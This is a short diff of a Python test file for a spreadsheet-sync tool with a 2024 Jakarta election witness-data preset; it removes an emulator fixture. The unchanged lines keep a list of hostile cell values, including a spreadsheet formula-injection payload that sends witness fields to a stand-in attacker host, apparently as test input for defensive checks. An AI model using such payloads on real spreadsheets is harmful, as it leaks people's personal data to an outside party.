@@ -20,17 +20,10 @@ from sheets import private_workdir
 
 from sheetsync.cli.main import cli
 from sheetsync.core.config import load_preset, with_overrides
-from sheetsync.emulator import Emulator
 
 PRESET = "pilkada-jakbar-2024"
 PERSONAL = ("Koordinator", "Nama Saksi", "HP/WA Saksi")
 HOSTILE = ['\x07=HYPERLINK("http://evil.example/?d="&Q2&P2,"klik")', "\x1b=1+1"]
-
-
-@pytest.fixture(scope="module")
-def emu() -> Any:
-    with Emulator() as emulator:
-        yield emulator
 
 
 class Shared:
